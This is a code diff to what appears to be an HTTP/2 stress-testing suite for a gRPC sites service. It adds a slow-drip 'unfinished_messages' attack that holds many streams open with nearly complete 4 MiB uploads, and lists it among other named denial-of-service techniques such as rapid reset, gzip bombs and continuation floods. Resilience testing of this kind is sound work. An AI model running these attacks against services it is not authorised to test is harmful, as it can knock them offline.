@@ -19,7 +19,7 @@ from hyperframe.frame import (
     SettingsFrame,
 )
 
-from attacks.http2 import FRAME, Connection, Cut
+from attacks.http2 import FRAME, Connection, Cut, StubbornConnection
 
 CREATE_SITE = "/energysites.v1.Sites/CreateSite"
 GET_SITE = "/energysites.v1.Sites/GetSite"
@@ -130,6 +130,24 @@ def slow_bodies(target, scale=1):
     return on_connections(20, attack)
 
 
+def unfinished_messages(target, scale=1):
+    """Large messages that come fast but for their end, which comes byte by byte."""
+    data = message(bytes(4 * MIB))[: -64 * 1024]
+
+    def attack():
+        with contextlib.closing(StubbornConnection(target)) as connection:
+            streams = range(1, 100, 2)
+            for stream in streams:
+                connection.send(connection.open(stream, CREATE_SITE))
+                connection.upload(stream, data, seconds=10, end=False)
+            for _ in range(10 * scale):
+                left = [stream for stream in streams if stream not in connection.gone]
+                connection.send(*(DataFrame(stream, b"\0") for stream in left))
+                connection.receive(HOLD_SECONDS / 10)
+
+    return on_connections(4, attack)
+
+
 def never_reads(target, scale=1):
     """Large answers asked for over and over, with no window to send them into."""
 
@@ -213,6 +231,6 @@ def many_connections(target, scale=1):
 
 
 ALL = [
-    rapid_reset, oversized_messages, gzip_bombs, slow_headers, slow_bodies, never_reads,
-    ping_abuse, continuation_flood, header_bombs, many_connections,
+    rapid_reset, oversized_messages, gzip_bombs, slow_headers, slow_bodies, unfinished_messages,
+    never_reads, ping_abuse, continuation_flood, header_bombs, many_connections,
 ]  # fmt: skip
